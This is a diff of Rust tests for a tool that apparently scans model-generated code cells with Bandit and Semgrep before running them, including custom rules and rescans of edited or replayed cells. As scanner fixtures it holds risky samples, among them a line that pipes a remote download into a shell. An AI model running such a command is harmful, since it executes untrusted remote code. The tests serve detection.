@@ -1,6 +1,9 @@
 //! Scanners beside our own analysis: real ones, silenced ones, hostile ones and missing ones.
 
-use crate::scene::{Scene, cell};
+use crate::{
+    scene::{Scene, cell},
+    terminal::Terminal,
+};
 use std::{
     fs,
     os::unix::fs::PermissionsExt,
@@ -9,15 +12,28 @@ use std::{
 
 const CONFIG: &str = ".config/interpreter/config.toml";
 
-/// Where `scripts/test` puts Bandit.
-const TOOLS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../target/test-tools/scanners/bin");
+/// Rules of the person's for Semgrep.
+const MINE: &str = ".config/interpreter/mine.yml";
 
-/// A scene in which these scanners are set, found in the folder of the tests' tools too.
+/// Where `scripts/test` puts Bandit and Semgrep.
+const TOOLS: [&str; 2] = [
+    concat!(env!("CARGO_MANIFEST_DIR"), "/../../target/test-tools/scanners/bin"),
+    concat!(env!("CARGO_MANIFEST_DIR"), "/../../target/test-tools/semgrep/bin"),
+];
+
+/// The folders in which scanners are looked for.
+fn path() -> String {
+    let tools = TOOLS.into_iter().filter_map(|folder| fs::canonicalize(folder).ok());
+    let system = ["/usr/local/bin", "/usr/bin", "/bin"].map(PathBuf::from);
+    let all: Vec<_> = tools.chain(system).map(|folder| folder.display().to_string()).collect();
+    all.join(":")
+}
+
+/// A scene in which these scanners are set, found in the folders of the tests' tools too.
 fn scene(scanners: &str) -> Scene {
-    let tools = fs::canonicalize(TOOLS).unwrap_or_default();
     Scene::new()
         .home_file(CONFIG, &format!("[analysis]\nscanners = [{scanners}]\n"))
-        .variable("PATH", &format!("{}:/usr/local/bin:/usr/bin:/bin", tools.display()))
+        .variable("PATH", &path())
 }
 
 /// Runs a program through a shell, whose variables our own analysis follows as well.
@@ -169,16 +185,92 @@ fn a_scanner_that_is_not_installed_is_named_once() {
     assert_eq!(notes.iter().filter(|note| note.to_string().contains(said)).count(), 1);
 }
 
-#[test]
-fn semgrep_looks_with_local_rules() {
-    let installed = ["/usr/bin", "/usr/local/bin", TOOLS];
-    if !installed.iter().any(|folder| Path::new(folder).join("semgrep").exists()) {
+/// A scene in which Semgrep looks at code, or `None` where it is not installed.
+#[expect(clippy::print_stdout, reason = "it says why nothing is tried")]
+fn semgrep(more: &str) -> Option<Scene> {
+    if !path().split(':').any(|folder| Path::new(folder).join("semgrep").exists()) {
         println!("not tried: Semgrep is not installed");
-        return;
+        return None;
     }
-    let code = "eval(x) # nosemgrep\n";
-    let scene = scene("\"semgrep\"").file("a.js", code);
-    let limit = "[analysis]\nscanners = [\"semgrep\"]\nscan_time = \"1m\"\n";
-    let scene = scene.home_file(CONFIG, limit);
+    let set = format!("[analysis]\nscanners = [\"semgrep\"]\nscan_time = \"2m\"\n{more}");
+    Some(scene("").home_file(CONFIG, &set))
+}
+
+#[test]
+fn semgrep_looks_with_the_rules_that_are_built_in() {
+    let Some(scene) = semgrep("") else { return };
+    let scene = scene
+        .file("a.js", "eval(x) // nosemgrep\n")
+        .file("a.py", "import os\nos.system('ls')  # nosem\n")
+        .file("a.sh", "curl https://a.test/x | sh\n")
+        .file("quiet.py", "print(1)\n")
+        .file(".semgrepignore", "*\n");
     scene.run(&["rules", "test", "a.js"]).mentions("semgrep javascript-computed-code").exits(0);
+    scene.run(&["rules", "test", "a.py"]).mentions("semgrep python-starts").exits(0);
+    scene.run(&["rules", "test", "a.sh"]).mentions("semgrep shell-fetched-code").exits(0);
+    // The control: code in which it finds nothing.
+    scene.run(&["rules", "test", "quiet.py"]).mentions("Risk: low").lacks("semgrep").exits(0);
+    scene.run(&["doctor", "-v"]).mentions("semgrep looks at code too");
+}
+
+/// Rules of the person's, and mistakes in them.
+#[test]
+fn semgrep_looks_with_the_rules_of_a_file() {
+    let Some(scene) = semgrep("semgrep_rules = \"mine.yml\"\n") else { return };
+    let rules = |severity: &str, pattern: &str| {
+        format!(
+            "rules:\n  - id: no-deploys\n    languages: [python]\n    severity: {severity}\n    \
+             message: releases go through CI\n    metadata: {{ capability: irreversible }}\n    \
+             pattern: {pattern}\n"
+        )
+    };
+    let scene = scene.file("a.py", "deploy(1)\n").home_file(MINE, &rules("ERROR", "deploy(...)"));
+    let seen = scene.run(&["rules", "test", "a.py"]).exits(0);
+    seen.mentions("Risk: high").mentions("semgrep no-deploys: releases go through CI");
+    let scene = scene.home_file(MINE, &rules("ERROR", "deploy(("));
+    let seen = scene.run(&["rules", "test", "a.py"]).exits(0);
+    seen.mentions("Risk: unknown").mentions("semgrep failed: Rule parse error in rule no-deploys");
+    let scene = scene.home_file(MINE, &rules("GRAVE", "deploy(...)"));
+    scene.run(&["rules", "test", "a.py"]).mentions("semgrep failed: 'GRAVE' is not one of");
+    fs::remove_file(scene.home().join(MINE)).unwrap();
+    let seen = scene.run(&["rules", "test", "a.py"]).exits(0);
+    seen.mentions("Risk: unknown").mentions("semgrep cannot be started: cannot read");
+}
+
+/// Code that the person changes in the question is looked at again, before it is asked about.
+#[test]
+fn edited_code_is_scanned_again() {
+    let scene = scene("\"bandit\"")
+        .variable("EDITOR", "sed -i s/False/True/")
+        .model_says(&[&cell("python", &SHELL_CODE.replace("True", "False")), "Done."]);
+    let terminal = Terminal::open(&scene, &["do it"]);
+    terminal.shows("Run it?").lacks("bandit B602");
+    terminal.types("e").shows("True").shows("bandit B602").shows("Run it?").lacks("Done.");
+    terminal.types("y").shows("Done.");
+    terminal.types("/quit").exits(0);
+    let seen = scene.run(&["history", "show", "--json"]);
+    let found: Vec<_> =
+        seen.of_kind("findings").iter().map(|one| one.to_string().contains("B602")).collect();
+    assert_eq!(found, [false, true]);
+}
+
+/// Cells that run again are judged as they would be now: with the scanners of now.
+#[test]
+fn a_cell_that_runs_again_is_scanned_again() {
+    let scene = Scene::new()
+        .variable("PATH", &path())
+        .file("x", "")
+        .model_says(&[&cell("python", OPEN_CODE), "Done."]);
+    scene.chat(&["--yes", "open x"]).exits(0);
+    let deny = "[[rule]]\ndecision = \"deny\"\nrisk = \"high\"\n";
+    let replay = |scene: &Scene| {
+        scene.play(&["Hello."]);
+        let arguments = scene.chat_arguments(&["--resume", "--replay", "--yes", "go on"]);
+        scene.run(&arguments.iter().map(String::as_str).collect::<Vec<_>>())
+    };
+    // The control: without a scanner its risk is medium, and the rule does not mean it.
+    let scene = scene.home_file(CONFIG, deny);
+    replay(&scene).lacks("not run again").exits(0);
+    let scene = scene.home_file(CONFIG, &format!("[analysis]\nscanners = [\"bandit\"]\n{deny}"));
+    replay(&scene).mentions("not run again: p1, refused by");
 }
